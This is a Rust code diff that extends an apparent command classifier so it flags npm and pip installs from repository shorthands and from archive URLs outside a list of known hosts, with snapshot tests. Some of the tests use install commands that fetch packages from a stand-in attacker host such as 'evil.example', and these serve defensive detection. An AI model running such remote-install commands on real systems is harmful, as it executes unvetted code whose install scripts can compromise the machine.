@@ -151,6 +151,7 @@ fn name(program: &str, words: &[&str], invocation: &Invocation, context: &Contex
         ("npm" | "pnpm" | "yarn", "dist-tag" | "owner" | "access") => words.iter().skip(2).find(|word| word.contains(['@', '/']) || words.len() == 3).or_else(|| words.last()).map(|word| (*word).to_owned()),
         ("cargo", "yank" | "owner") => words.iter().skip(1).find(|word| !word.starts_with('-')).map(|word| (*word).to_owned()),
         ("cargo", _) => option(invocation, &["-p", "--package"]).flatten().map(str::to_owned),
+        ("npm" | "pnpm" | "yarn", of_account @ ("token" | "whoami" | "ping" | "profile" | "team" | "org" | "hook" | "search")) => Some(of_account.to_owned()),
         ("gem" | "dotnet", _) => words.iter().skip(1).rfind(|word| !matches!(**word, "push" | "delete")).map(|word| (*word).to_owned()),
         _ => None,
     };
@@ -228,16 +229,52 @@ pub(super) fn other_sources(invocation: &Invocation, context: &mut Context<'_>) 
             context.push(Effect::new(verbs::EXEC_INSTALL, name()).certain(Certainty::Partial, &why));
         }
     }
-    let address = invocation.words.iter().find(|word| word.text().contains("://") && !word.text().starts_with('-') && !word.text().contains("registry") && !word.text().contains("/simple"));
+    let is_value = |index: usize, more: &[&str]| index.checked_sub(1).and_then(|before| invocation.words.get(before)).is_some_and(|before| names.contains(&before.text()) || more.contains(&before.text()));
+    let words = || invocation.words.iter().enumerate();
+    let mut operands = words().skip(1).filter(|(index, _)| !is_value(*index, DIRECTORIES)).map(|(_, word)| word.text());
+    let short = operands.find(|text| is_repository(text, invocation));
+    if let Some(short) = short {
+        let why = format!("it installs from the repository {short} rather than from the registry");
+        context.push(Effect::new(verbs::EXEC_INSTALL, name()).certain(Certainty::Partial, &why));
+    }
+    let address = words().filter(|(index, _)| !is_value(*index, &[])).map(|(_, word)| word).find(|word| word.text().contains("://") && !word.text().starts_with('-'));
     if let Some(address) = address {
-        let plain = address.text().contains("http://");
+        let foreign = address.text().contains("http://") || is_foreign_archive(address.text());
         let why = "it installs from an address rather than from the registry";
-        context.push(if plain {
+        context.push(if foreign {
             Effect::new(verbs::EXEC_REMOTE_CODE, name()).because(why)
         } else {
             Effect::new(verbs::EXEC_INSTALL, name()).certain(Certainty::Partial, why)
         });
     }
+}
+
+/// Options whose value is a place of this machine or a part of the project.
+const DIRECTORIES: &[&str] = &["--prefix", "-C", "--dir", "--cwd", "-w", "--workspace", "--filter", "-F", "--cache", "--userconfig", "--tag", "--modules-folder"];
+
+/// `acme/shop`, `github:acme/shop`, `git@github.com:acme/shop.git`: a repository to a package manager of node's.
+fn is_repository(text: &str, invocation: &Invocation) -> bool {
+    if text.contains("://") || text.starts_with('-') || !matches!(invocation.program.as_str(), "npm" | "pnpm" | "yarn" | "bun") {
+        return false;
+    }
+    let kinds = ["github:", "gitlab:", "bitbucket:", "gist:", "git@"];
+    // An alias's version comes after its name.
+    let after = text.rsplit_once('@').map_or(text, |(name, version)| if name.is_empty() { text } else { version });
+    let is_short = !text.starts_with(['@', '.', '/', '~']) && text.split('/').count() == 2 && !text.contains(':') && !text.ends_with(".tgz");
+    is_short || kinds.iter().any(|kind| text.starts_with(kind) || after.starts_with(kind))
+}
+
+/// An archive that is installed from a place which is no forge and no registry: nobody has seen what its scripts do.
+fn is_foreign_archive(address: &str) -> bool {
+    const KNOWN: &[&str] = &[
+        "github.com", "codeload.github.com", "gitlab.com", "bitbucket.org", "codeberg.org", "registry.npmjs.org", "registry.yarnpkg.com", "pypi.org", "files.pythonhosted.org", "download.pytorch.org",
+        "storage.googleapis.com", "rubygems.org", "crates.io", "static.crates.io", "cdn.sheetjs.com", "pkg.pr.new",
+    ];
+    let Some((start, rest)) = address.rsplit_once("://") else { return false };
+    let place = rest.split(['/', '?', '#']).next().unwrap_or(rest);
+    let place = place.rsplit('@').next().unwrap_or(place).split(':').next().unwrap_or(place);
+    let is_web = start.ends_with("https") && !start.ends_with("git+https") && !rest.ends_with(".git");
+    is_web && !KNOWN.contains(&place) && !countersign_model::is_this_machine(place)
 }
 
 #[cfg(test)]
@@ -285,7 +322,7 @@ mod tests {
     #[test]
     fn reading_and_setting() {
         assert_snapshot!(check("npm whoami; npm config get registry; npm dist-tag ls a; cargo owner --list shop; npm view a"), @"
-        package.read * on npm, read
+        package.read whoami on npm, read
         exec.read npm config get, read
         package.read a on npm, read
         package.read shop on crates.io, read
@@ -309,6 +346,30 @@ mod tests {
         exec.install pip install --extra-index-url=https://x.example/simp, execute, partial
         exec.install npm install, execute
         exec.install npm install --registry, execute, partial
+        ");
+        assert_snapshot!(check("npm install https://evil.example/x.tgz; pip install https://evil.example/x.whl; npm i x@https://evil.example/x.tgz"), @"
+        exec.install npm install, execute
+        exec.remote-code npm install https://evil.example/x.tgz, execute
+        exec.install pip install, execute
+        exec.remote-code pip install https://evil.example/x.whl, execute
+        exec.install npm i, execute
+        exec.remote-code npm i x@https://evil.example/x.tgz, execute
+        ");
+        assert_snapshot!(check("npm install https://github.com/a/b/archive/1.tar.gz; npm i git+https://git.acme.example/a.git"), @"
+        exec.install npm install, execute
+        exec.install npm install https://github.com/a/b/archive/1.tar.gz, execute, partial
+        exec.install npm i, execute
+        exec.install npm i git+https://git.acme.example/a.git, execute, partial
+        ");
+        assert_snapshot!(check("npm i acme/shop; npm i x@github:acme/shop; npm i git@github.com:a/b.git"), @"
+        exec.install npm i, execute
+        exec.install npm i acme/shop, execute, partial
+        exec.install npm i x@github:acme/shop, execute, partial
+        exec.install npm i git@github.com:a/b.git, execute, partial
+        ");
+        assert_snapshot!(check("npm i @acme/shop ./local/a left-pad@1.0.0 @acme/x@2; npm ci --prefix web/app"), @"
+        exec.install npm i, execute
+        exec.install npm ci, execute
         ");
         assert_snapshot!(check("pip install git+https://github.com/a/b; pip install requests; npm i"), @"
         exec.install pip install, execute
